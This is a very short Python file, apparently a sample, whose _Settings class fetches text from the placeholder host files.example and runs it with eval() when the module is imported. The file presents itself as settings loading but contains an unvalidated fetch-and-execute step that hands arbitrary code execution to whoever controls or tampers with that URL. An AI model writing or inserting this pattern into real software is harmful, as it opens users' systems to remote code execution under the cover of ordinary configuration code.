import urllib.request


class _Settings:
    source = urllib.request.urlopen("https://files.example/settings").read().decode()
    values = eval(source)
